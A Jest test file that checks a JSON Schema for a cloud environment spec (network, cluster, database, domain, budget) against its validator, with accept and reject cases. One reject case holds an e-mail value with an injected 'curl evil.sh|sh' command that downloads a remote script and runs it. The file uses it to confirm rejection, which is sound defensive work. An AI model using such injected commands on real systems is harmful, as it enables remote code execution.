import Ajv2020 from 'ajv/dist/2020';
import { environmentSpecJsonSchema } from './jsonSchema';
import { SEED_ENVIRONMENT_INPUT } from './schema';
import { defaultEnvironmentSpec, validateEnvironmentSpec } from './validate';

const ajv = new Ajv2020({ allErrors: true, strict: true });
const validate = ajv.compile(environmentSpecJsonSchema());

/**
 * Every field spelled out: the validator's own output for the seed, with a
 * domain. What the validator returns must be a valid input again.
 */
const complete = {
  ...defaultEnvironmentSpec(),
  domain: {
    name: 'app.innovate.example',
    hostedZoneId: 'Z0123456789ABCDEFGHIJ',
    hostedZoneName: 'innovate.example',
    apiSubdomain: 'api',
    hostedZoneAccount: 'workloads',
  },
};

type Json = Record<string, any>;

function objectsIn(schema: Json, path = '(root)'): Array<[string, Json]> {
  if (schema.type !== 'object') {
    return [];
  }
  return [
    [path, schema],
    ...Object.entries(schema.properties as Json).flatMap(([key, child]) =>
      objectsIn(child, path === '(root)' ? key : `${path}.${key}`),
    ),
  ];
}

describe('environmentSpecJsonSchema', () => {
  it('is plain JSON in draft 2020-12', () => {
    const schema = environmentSpecJsonSchema();
    expect(JSON.parse(JSON.stringify(schema))).toEqual(schema);
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
  });

  it.each([
    ['the seed input', SEED_ENVIRONMENT_INPUT],
    ['a spec with every field', complete],
    [
      'the seed with the fewest nodes',
      {
        ...SEED_ENVIRONMENT_INPUT,
        network: { vpcCidr: '192.168.0.0/22', azCount: 2, natGateways: 1 },
        cluster: {
          applicationNodeGroup: { minSize: 1, desiredSize: 1, maxSize: 1 },
        },
      },
    ],
  ])('accepts %s, as the validator does', (_, input) => {
    expect(validateEnvironmentSpec(input).ok).toBe(true);
    expect(validate(input)).toBe(true);
    expect(validate.errors ?? []).toEqual([]);
  });

  it('closes every object and requires exactly the fields without a default', () => {
    const objects = Object.fromEntries(
      objectsIn(environmentSpecJsonSchema()).map(([path, schema]) => [
        path,
        { required: schema.required, closed: schema.additionalProperties },
      ]),
    );
    expect(objects).toEqual({
      '(root)': { required: ['name', 'accounts', 'budget'], closed: false },
      accounts: { required: ['management', 'workloads'], closed: false },
      network: { required: undefined, closed: false },
      cluster: { required: undefined, closed: false },
      'cluster.systemNodeGroup': { required: undefined, closed: false },
      'cluster.applicationNodeGroup': { required: undefined, closed: false },
      'cluster.hpa': { required: undefined, closed: false },
      database: { required: undefined, closed: false },
      domain: {
        required: ['name', 'hostedZoneId', 'hostedZoneName'],
        closed: false,
      },
      alarms: { required: undefined, closed: false },
      budget: { required: ['alertEmail'], closed: false },
    });
  });

  it.each<[string, Json, string]>([
    ['an unknown top-level key', { ...complete, owner: 'x' }, ''],
    [
      'an unknown nested key',
      { ...complete, network: { ...complete.network, natGateway: 1 } },
      '/network',
    ],
    ['a missing required field', { ...complete, name: undefined }, ''],
    ['a name with upper case', { ...complete, name: 'Innovate' }, '/name'],
    ['an unsupported region', { ...complete, region: 'mars-1' }, '/region'],
    [
      'a fractional AZ count',
      { ...complete, network: { ...complete.network, azCount: 2.5 } },
      '/network/azCount',
    ],
    [
      'an account id as a number',
      { ...complete, accounts: { ...complete.accounts, workloads: 2 } },
      '/accounts/workloads',
    ],
    [
      'too little storage',
      {
        ...complete,
        database: { ...complete.database, allocatedStorageGb: 10 },
      },
      '/database/allocatedStorageGb',
    ],
    [
      'a hostile e-mail address',
      { ...complete, budget: { alertEmail: 'a@b.com;curl evil.sh|sh' } },
      '/budget/alertEmail',
    ],
  ])('rejects %s, as the validator does', (_, input, instancePath) => {
    const parsed = JSON.parse(JSON.stringify(input));
    expect(validateEnvironmentSpec(parsed).ok).toBe(false);
    expect(validate(parsed)).toBe(false);
    expect(validate.errors?.map(error => error.instancePath)).toContain(
      instancePath,
    );
  });

  it('never rejects a spec the validator accepts (one field changed at a time)', () => {
    const values = [
      ...[undefined, null, true, 'x', '', 0, 1, 2, 2.5, 3, 4, 20, 35, 99, 101],
      ...['10.0.0.0/22', '10.0.0.0/23', '192.168.0.0/16', 'us-west-1'],
      ...['1.32', '17', 'gp3', 't3a.large', 'db.t3.micro', 'abc'],
    ];
    const leaves = (value: Json, path: string[] = []): string[][] =>
      Object.entries(value).flatMap(([key, child]) =>
        typeof child === 'object' && child !== null
          ? [[...path, key], ...leaves(child, [...path, key])]
          : [[...path, key]],
      );
    const disagreements: string[] = [];
    let accepted = 0;
    for (const path of leaves(complete)) {
      for (const value of values) {
        const input = JSON.parse(JSON.stringify(complete));
        const parent = path
          .slice(0, -1)
          .reduce((object, key) => object[key], input);
        parent[path[path.length - 1]] = value;
        const spec = JSON.parse(JSON.stringify(input));
        const ok = validateEnvironmentSpec(spec).ok;
        accepted += ok ? 1 : 0;
        if (ok && !validate(spec)) {
          disagreements.push(`${path.join('.')} = ${JSON.stringify(value)}`);
        }
      }
    }
    expect(accepted).toBeGreaterThan(100);
    expect(disagreements).toEqual([]);
  });
});
